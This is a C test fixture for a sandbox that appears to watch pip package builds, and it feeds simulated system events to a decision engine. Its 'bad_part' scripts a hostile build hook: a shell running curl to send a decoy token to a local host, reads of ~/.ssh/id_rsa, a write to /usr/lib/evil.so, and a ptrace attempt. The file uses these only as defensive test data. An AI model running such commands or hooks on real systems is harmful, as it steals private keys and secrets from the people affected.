/* What the unit tests that drive the decision engine share (decide's
 * test_engine and test_profile, report's test_report, cmd's test_replay):
 * the bundled profiles and a temp directory of the test's own, events built
 * as the monitor hands them over, a kill hook that records, the default
 * profile with this fixture's variables, and one pip install of two
 * packages (demo, whose build_wheel hook turns hostile in bad_part, and
 * good).  Only decide's door is included, so that a test of any layer
 * that may call decide can use it.  Everything is static (inline): a test
 * takes what it needs. */
#ifndef PIPJAIL_ENGINE_FIXTURE_H
#define PIPJAIL_ENGINE_FIXTURE_H

#include <errno.h>
#include <limits.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "decide/engine.h"

#define HOME   "/home/u"
#define TOKEN  "PIPJAILdeadbeefcafe0123456789abcdef0123456789abcd"
#define SRC    "/tmp/pip-install-k2j3/demo_0123456789abcdef0123456789abcdef"
#define SRC2   "/tmp/pip-install-k2j3/good_fedcba9876543210fedcba9876543210"

static char bundled[PATH_MAX + 16];   /* <repo>/profiles */
static char tmpdir[PATH_MAX];         /* /tmp/pipjail-test-NAME-XXXXXX */
static uint64_t clock_ns = 1000000000;

/* bundled from where the test binary is (build/tests/test_X -> <repo>),
 * and a fresh tmpdir.  false when either cannot be had. */
static inline bool fixture_begin(const char *name)
{
	char exe[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	char *slash;

	if (n <= 0)
		return false;
	exe[n] = '\0';
	for (int i = 0; i < 3 && (slash = strrchr(exe, '/')); i++)
		*slash = '\0';
	snprintf(bundled, sizeof(bundled), "%s/profiles", exe);
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/pipjail-test-%s-XXXXXX", name);
	if (!mkdtemp(tmpdir)) {
		perror("mkdtemp");
		return false;
	}
	return true;
}

/* Remove tmpdir and what the test left in it. */
static inline void fixture_end(void)
{
	char cmd[PATH_MAX + 16];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	if (system(cmd) != 0)
		fprintf(stderr, "could not remove %s\n", tmpdir);
}

/* ---- event builders ------------------------------------------------------------ */

static inline struct trace_event base(const char *kind, uint32_t hpid, uint32_t pid, uint32_t hppid)
{
	struct trace_event ev = {
		.kind = kind, .nr = -1, .t_mono_ns = clock_ns, .t_wall_ns = 1700000000000000000LL + (int64_t)clock_ns,
		.pid = pid, .tid = pid, .hpid = hpid, .htid = hpid, .hppid = hppid, .uid = 1000, .gid = 1000,
		.comm = "x", .mode = -1, .protocol = -1, .port = -1, .target_pid = -1, .exit_code = -1,
	};

	clock_ns += 1000;
	return ev;
}

static inline void fork_ev(struct engine *e, uint32_t hpid, uint32_t pid, uint32_t child_hpid,
			   uint32_t child_pid)
{
	struct trace_event ev = base("fork", hpid, pid, 0);

	ev.child_hpid = ev.child_htid = child_hpid;
	ev.child_pid = ev.child_tid = child_pid;
	engine_event(e, &ev);
}

static inline void exec_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *path,
			   const char *cwd, const char *const *argv)
{
	struct trace_event ev = base("exec", hpid, pid, 0);
	const char *b = strrchr(path, '/');

	ev.path = ev.abs = ev.file = path;
	ev.cwd = cwd;
	ev.argv = argv;
	ev.comm = b ? b + 1 : path;
	ev.exe = path;
	engine_event(e, &ev);
}

static inline void open_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *path,
			   const char *flags, long ret)
{
	struct trace_event ev = base("open", hpid, pid, 0);

	ev.syscall = "openat";
	ev.nr = 257;
	ev.path = ev.abs = path;
	ev.file = ret >= 0 ? path : NULL;
	ev.flags = flags;
	ev.has_ret = true;
	ev.ret = ret;
	engine_event(e, &ev);
}

/* A path event (mkdir, symlink, unlink, rename, link) that returned ret. */
static inline void path_ev(struct engine *e, const char *kind, uint32_t hpid, uint32_t pid,
			   const char *abs, const char *abs2, long ret)
{
	struct trace_event ev = base(kind, hpid, pid, 0);

	ev.syscall = kind;
	ev.path = ev.abs = abs;
	ev.path2 = ev.abs2 = abs2;
	ev.has_ret = true;
	ev.ret = ret;
	engine_event(e, &ev);
}

static inline void connect_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *addr, int port)
{
	struct trace_event ev = base("connect", hpid, pid, 0);

	ev.syscall = "connect";
	ev.nr = 42;
	ev.family = "AF_INET";
	ev.addr = addr;
	ev.port = port;
	ev.has_ret = true;
	ev.ret = -ECONNREFUSED;
	engine_event(e, &ev);
}

static inline void refused_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *syscall,
			      long ret)
{
	struct trace_event ev = base("seccomp_refused", hpid, pid, 0);

	ev.syscall = syscall;
	ev.refused = true;
	ev.has_ret = true;
	ev.ret = ret;
	engine_event(e, &ev);
}

static inline void exit_ev(struct engine *e, uint32_t hpid, uint32_t pid, const char *signal)
{
	struct trace_event ev = base("exit", hpid, pid, 0);

	ev.signal = signal;
	ev.exit_code = signal ? -1 : 0;
	engine_event(e, &ev);
}

/* hpid forks child_hpid, which execs path: what the engine knows of it then. */
static inline const struct proc_info *spawn(struct engine *e, uint32_t hpid, uint32_t pid,
					    uint32_t child_hpid, uint32_t child_pid, const char *path,
					    const char *cwd, const char *const *argv)
{
	fork_ev(e, hpid, pid, child_hpid, child_pid);
	exec_ev(e, child_hpid, child_pid, path, cwd, argv);
	return engine_proc(e, child_hpid);
}

/* ---- the kill hook ---------------------------------------------------------------- */

struct kills {
	uint32_t hpid[16];
	bool whole[16];
	int n;
};

static inline int kill_hook(uint32_t hpid, bool whole_jail, void *ctx)
{
	struct kills *k = ctx;

	if (k->n < 16) {
		k->hpid[k->n] = hpid;
		k->whole[k->n] = whole_jail;
	}
	k->n++;
	return 0;
}

/* ---- profiles ------------------------------------------------------------------------ */

/* A bundled profile with the usual variables for home and /work (no venv);
 * exits when it does not load. */
static inline struct profile *load_profile(const char *name, const char *home)
{
	struct profile_source src = { .dir = bundled };
	char err[1024];
	struct profile *p = profile_load(name, &src, err, sizeof(err));

	if (!p) {
		fprintf(stderr, "%s\n", err);
		exit(1);
	}
	profile_set_defaults(p, home, "/work", NULL);
	return p;
}

/* The default profile, HOME and a venv at /venv. */
static inline struct profile *load_default(void)
{
	struct profile *p = load_profile("default", HOME);

	profile_set_var(p, "ENV", "/venv");
	profile_set_var(p, "SITE", "/venv/lib/python3.11/site-packages");
	return p;
}

/* ---- one install: pip, demo's build (clean, then hostile), good's build ------------- */

static const char *const pip_argv[] = { "/venv/bin/python3", "/venv/bin/pip", "install", "--no-index",
					 "./demo-1.0.tar.gz", "./good-2.0.tar.gz", NULL };
static const char *const hook_argv[] = {
	"/venv/bin/python3",
	"/venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py",
	"build_wheel", "/tmp/tmpq1w2e3", NULL,
};
static const char *const gcc_argv[] = { "gcc", "-pthread", "-fPIC", "-I/usr/include/python3.11", "-c",
					"demo.c", "-o", "build/temp.linux-x86_64-cpython-311/demo.o", NULL };
static const char *const sh_argv[] = { "/bin/sh", "-c", "curl -s http://127.0.0.1:8080/x?t=" TOKEN, NULL };
static const char *const curl_argv[] = { "curl", "-s", "http://127.0.0.1:8080/x?t=" TOKEN, NULL };

/* The engine of that install, before its first event, with the default
 * profile (install_end frees both): killing through kill_hook into k, the
 * command pip_argv, the decoy ~/.ssh/id_rsa. */
static inline struct engine *install_engine(bool enforce, struct kills *k)
{
	struct engine *e = engine_new(load_default(), enforce);

	engine_set_kill(e, kill_hook, k);
	engine_set_command(e, pip_argv + 1);
	engine_add_decoy(e, "~/.ssh/id_rsa", TOKEN);
	return e;
}

static inline void install_end(struct engine *e)
{
	struct profile *p = (struct profile *)engine_profile(e);

	engine_free(e);
	profile_free(p);
}

/* init (1000/1) -> command (1001/2) = pip -> hook (1002/3) -> gcc (1003/4) */
static inline void clean_part(struct engine *e)
{
	spawn(e, 1000, 1, 1001, 2, "/venv/bin/pip", "/work", pip_argv);
	open_ev(e, 1001, 2, "/work/demo-1.0.tar.gz", "O_RDONLY|O_CLOEXEC", 3);
	spawn(e, 1001, 2, 1002, 3, "/venv/bin/python3", SRC, hook_argv);
	open_ev(e, 1002, 3, "/usr/lib/python3.11/os.py", "O_RDONLY|O_CLOEXEC", 3);
	open_ev(e, 1002, 3, SRC "/setup.py", "O_RDONLY|O_CLOEXEC", 3);
	open_ev(e, 1002, 3, "/nonexistent-probe/x.py", "O_RDONLY|O_CLOEXEC", -ENOENT);
	spawn(e, 1002, 3, 1003, 4, "/usr/bin/gcc", SRC, gcc_argv);
	open_ev(e, 1003, 4, SRC "/demo.c", "O_RDONLY", 3);
	open_ev(e, 1003, 4, "/usr/include/python3.11/Python.h", "O_RDONLY", 3);
	open_ev(e, 1003, 4, SRC "/build/temp.linux-x86_64-cpython-311/demo.o",
		"O_WRONLY|O_CREAT|O_TRUNC", 4);
	open_ev(e, 1003, 4, "/tmp/ccAbcd.s", "O_RDWR|O_CREAT|O_EXCL", 4);
	exit_ev(e, 1003, 4, NULL);
	refused_ev(e, 1002, 3, "io_uring_setup", -ENOSYS);  /* a probe: recorded only */
	refused_ev(e, 1002, 3, "clone3", -ENOSYS);
}

static inline void bad_part(struct engine *e)
{
	/* the hook starts sh, sh starts curl with the decoy token */
	spawn(e, 1002, 3, 1004, 5, "/bin/sh", SRC, sh_argv);
	spawn(e, 1004, 5, 1005, 6, "/usr/bin/curl", SRC, curl_argv);
	connect_ev(e, 1005, 6, "127.0.0.1", 8080);
	/* the hook reads the decoy key, writes outside its tree, calls ptrace */
	open_ev(e, 1002, 3, HOME "/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC", 5);
	open_ev(e, 1002, 3, HOME "/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC", 5);  /* again: once */
	open_ev(e, 1002, 3, "/usr/lib/evil.so", "O_WRONLY|O_CREAT", -EROFS);
	refused_ev(e, 1002, 3, "ptrace", -EPERM);
}

static inline void second_package(struct engine *e)
{
	spawn(e, 1001, 2, 1010, 7, "/venv/bin/python3", SRC2, hook_argv);
	open_ev(e, 1010, 7, SRC2 "/pyproject.toml", "O_RDONLY", 3);
	exit_ev(e, 1010, 7, NULL);
}

/* ---- reading the verdict ---------------------------------------------------------- */

static inline const struct violation_record *find(const struct engine *e, const char *rule)
{
	for (size_t i = 0; i < engine_n_violations(e); i++)
		if (!strcmp(engine_violation(e, i)->rule, rule))
			return engine_violation(e, i);
	return NULL;
}

static inline size_t count(const struct engine *e, const char *rule)
{
	size_t n = 0;

	for (size_t i = 0; i < engine_n_violations(e); i++)
		n += !strcmp(engine_violation(e, i)->rule, rule);
	return n;
}

#endif
